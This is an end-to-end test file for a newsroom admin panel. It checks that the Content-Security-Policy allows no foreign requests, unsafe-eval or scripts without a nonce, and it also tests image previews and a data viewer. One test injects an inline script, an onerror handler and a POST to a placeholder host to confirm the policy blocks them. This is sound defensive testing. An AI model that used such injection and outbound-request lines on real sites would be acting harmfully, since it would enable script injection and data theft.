import { afterAll, beforeAll, describe, expect, it } from '@jest/globals'
import type { Browser, BrowserContext, Page } from 'playwright-core'
import sharp from 'sharp'

import { logIn, openBrowser } from '../support/openBrowser'
import { serveNewsroom, type ServedNewsroom } from '../support/servedNewsroom'

let newsroom: ServedNewsroom
let browser: Browser

beforeAll(async () => {
  newsroom = await serveNewsroom()
  browser = await openBrowser()
}, 240_000)

afterAll(async () => {
  await browser?.close()
  await newsroom?.stop()
})

type Watched = {
  /** Requests to any other origin. */
  foreign: string[]
  /** What the browser refused because of the policy. */
  violations: string[]
  /** Addresses of pages, and the policy each came with. */
  policies: Map<string, string>
}

/** Everything that the pages of this context ask of others, and what their policy forbids them. */
async function watch(context: BrowserContext): Promise<Watched> {
  const seen: Watched = { foreign: [], violations: [], policies: new Map() }
  const isOwn = (address: string): boolean =>
    /^(?:data|blob):/.test(address) || new URL(address).origin === newsroom.url
  context.on('request', (request) => {
    if (!isOwn(request.url())) seen.foreign.push(request.url())
  })
  context.on('response', (response) => {
    const { 'content-type': type = '', 'content-security-policy': policy = '' } = response.headers()
    if (type.startsWith('text/html')) seen.policies.set(response.url(), policy)
  })
  await context.exposeFunction('kunyeViolated', (violation: string) => {
    seen.violations.push(violation)
  })
  await context.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) => {
      const told = `${location.pathname}: ${event.violatedDirective} ${event.blockedURI} ${event.sample}`
      void (window as unknown as { kunyeViolated(told: string): void }).kunyeViolated(told)
    })
  })
  return seen
}

// Payload asks who is logged in and never reads the refusal's body: without a login the network is not idle by Chromium's count.
const QUIET_MS = 2_000
const visit = async (page: Page, path: string): Promise<void> => {
  await page.goto(`${newsroom.url}${path}`)
  await page.waitForLoadState('networkidle', { timeout: QUIET_MS }).catch(() => undefined)
}

const linksOf = (page: Page, selector: string): Promise<string[]> =>
  page.$$eval(selector, (links) => [
    ...new Set(links.map((link) => new URL((link as HTMLAnchorElement).href).pathname)),
  ])

/** The newest document of a collection as this person reads it; none where he may not. */
const firstOf = (page: Page, slug: string): Promise<{ id: string; document?: object }[]> =>
  page.evaluate(async (collection) => {
    const answer = await fetch(`/api/${collection}?limit=1&depth=0`)
    const { docs = [] } = await answer.json()
    return docs
  }, slug)

/** List, create, edit, and every tab of one collection, with one version where it has versions. */
async function walkCollection(page: Page, list: string): Promise<string[]> {
  const walked: string[] = []
  const go = async (path: string) => {
    walked.push(path)
    await visit(page, path)
  }
  await go(list)
  const [create] = await linksOf(page, `a[href$="${list}/create"]`)
  const [first] = await firstOf(page, list.split('/').at(-1) ?? '')
  if (create) await go(create)
  if (!first) return walked
  const edit = `${list}/${first.id}`
  await go(edit)
  let versions: string[] = []
  for (const tab of (await linksOf(page, '.doc-tabs a')).filter((one) => one !== edit)) {
    await go(tab)
    versions = [...versions, ...(await linksOf(page, `table a[href*="${edit}/versions/"]`))]
  }
  if (versions[0]) await go(versions[0])
  return walked
}

const slugsIn = (paths: readonly string[]): string[] =>
  [...new Set(paths.map((path) => path.split('/')[3] ?? ''))].filter(Boolean)

/** Every page that the navigation of this person leads to, three at a time. */
async function walkAdmin(page: Page, context: BrowserContext): Promise<string[]> {
  await visit(page, '/admin')
  const lists = await linksOf(page, 'nav a[href*="/admin/collections/"]')
  const queue = [...lists]
  const walked: string[] = []
  const walk = async (tab: Page) => {
    for (let list = queue.shift(); list; list = queue.shift()) {
      walked.push(...(await walkCollection(tab, list)))
    }
  }
  const more = [context.newPage(), context.newPage()]
  await Promise.all([walk(page), ...more.map(async (tab) => walk(await tab))])
  for (const path of ['/admin/account', '/admin/boyle-bir-sayfa-yok']) await visit(page, path)
  return walked
}

const scriptsOf = (policy: string): string[] =>
  (/(?:^|; )script-src ([^;]*)/.exec(policy)?.[1] ?? '').split(' ')

function expectStrict({ policies, violations, foreign }: Watched): void {
  expect(foreign).toEqual([])
  expect(violations).toEqual([])
  for (const [address, policy] of policies) {
    const scripts = scriptsOf(policy).filter((source) => !/^'nonce-[\w-]{22}'$/.test(source))
    expect([address, scripts]).toEqual([address, ["'self'"]])
    // Nowhere an address of somebody else, a scheme that carries one, or eval.
    expect([address, /https?:|\*|unsafe-eval|wss?:/.test(policy)]).toEqual([address, false])
  }
  const nonces = [...policies.values()].map((policy) => /'nonce-([^']+)'/.exec(policy)?.[1])
  expect(new Set(nonces).size).toBe(policies.size)
}

const EXPECTED = {
  admin: ['users', 'desks', 'sections', 'tags', 'webhooks', 'audit-log'],
  editor: [
    ...['articles', 'claims', 'sources', 'persons', 'events', 'media', 'comments'],
    ...['publications', 'publication-snapshots', 'audit-log'],
  ],
}

describe('The policy of the admin', () => {
  it('lets every page of admins and editors work, and none asks a foreign server for anything', async () => {
    const walkAs = async (role: keyof typeof EXPECTED) => {
      const { page, context } = await logIn(browser, newsroom.url, newsroom.account(role))
      const seen = await watch(context)
      const walked = await walkAdmin(page, context)
      await context.close()
      expect(slugsIn(walked)).toEqual(expect.arrayContaining(EXPECTED[role]))
      expectStrict(seen)
      expect(seen.policies.size).toBeGreaterThan(EXPECTED[role].length * 2)
      return walked
    }
    const walked = (await Promise.all([walkAs('admin'), walkAs('editor')])).flat()
    for (const kind of [/\/create$/, /\/api$/, /\/versions$/, /\/versions\/\w+$/, /\/gecmis$/]) {
      expect(walked).toContainEqual(expect.stringMatching(kind))
    }
  }, 240_000)

  it('holds before somebody is logged in, and where there is no page', async () => {
    const context = await browser.newContext({ locale: 'tr-TR' })
    const seen = await watch(context)
    const page = await context.newPage()
    const open = ['login', 'logout', 'logout-inactivity', 'forgot', 'reset/yok', 'unauthorized']
    for (const path of [
      ...open,
      'create-first-user',
      'yok/boyle/sayfa',
      'collections/yok',
      'a.b',
    ]) {
      await visit(page, `/admin/${path}`)
    }
    expectStrict(seen)
    expect(seen.policies.size).toBeGreaterThanOrEqual(open.length)
    await context.close()
  }, 90_000)

  it('shows a picture that is about to be uploaded', async () => {
    const { page, context } = await logIn(browser, newsroom.url, newsroom.account('editor'))
    const seen = await watch(context)
    await visit(page, '/admin/collections/media/create')
    const create = { width: 64, height: 48, channels: 3, background: '#31708f' } as const
    const buffer = await sharp({ create }).png().toBuffer()
    await page.setInputFiles('input[type="file"]', { name: 'a.png', mimeType: 'image/png', buffer })
    const preview = page.locator('img[src^="blob:"]').first()
    await preview.waitFor()
    expect(await preview.evaluate((img) => (img as HTMLImageElement).naturalWidth)).toBe(64)
    expectStrict(seen)
    await context.close()
  }, 60_000)

  it('refuses a script put into a page, and a word to a foreign server', async () => {
    const context = await browser.newContext()
    const seen = await watch(context)
    const page = await context.newPage()
    await visit(page, '/admin/login')
    const ran = await page.evaluate(async () => {
      const script = document.createElement('script')
      script.textContent = 'window.ran = true'
      document.body.append(script)
      const image = document.createElement('img')
      image.setAttribute('onerror', 'window.ran = true')
      image.src = 'data:,'
      document.body.append(image)
      await fetch('https://kunye.invalid/', { method: 'POST', body: 'x' }).catch(() => undefined)
      await new Promise((resolve) => setTimeout(resolve, 300))
      return 'ran' in window
    })
    expect(ran).toBe(false)
    const directives = seen.violations.map((violation) => violation.split(' ')[1])
    expect(new Set(directives)).toEqual(
      new Set(['script-src-elem', 'script-src-attr', 'connect-src']),
    )
    await context.close()
  }, 60_000)
})

describe('Recorded data in the admin', () => {
  it('reads as names and values, by keyboard, in both languages, and can be copied', async () => {
    const { page, context } = await logIn(browser, newsroom.url, newsroom.account('editor'))
    await context.grantPermissions(['clipboard-read', 'clipboard-write'])
    const [snapshot] = await firstOf(page, 'publication-snapshots')
    if (!snapshot) throw new Error('the demo newsroom has published nothing')
    await visit(page, `/admin/collections/publication-snapshots/${snapshot.id}`)
    const view = page.locator('.kunye-data')
    expect(await page.locator('.monaco-editor, .code-editor').count()).toBe(0)

    const body = view.locator('details', { hasText: 'body' }).first()
    await body.locator('summary').first().focus()
    await page.keyboard.press('Enter')
    await body.getByText('markdown').waitFor()

    await view.getByRole('button', { name: 'JSON’u kopyala' }).focus()
    await page.keyboard.press('Enter')
    await view.getByText('Kopyalandı.').waitFor()
    const copied = await page.evaluate(() => navigator.clipboard.readText())
    expect(JSON.parse(copied)).toEqual(snapshot.document)

    await context.addCookies([{ name: 'payload-lng', value: 'en', url: newsroom.url }])
    await page.reload()
    await page.getByRole('button', { name: 'As text' }).click()
    const text = page.locator('.kunye-data pre')
    expect(JSON.parse(await text.innerText())).toEqual(snapshot.document)
    await context.close()
  }, 90_000)
})
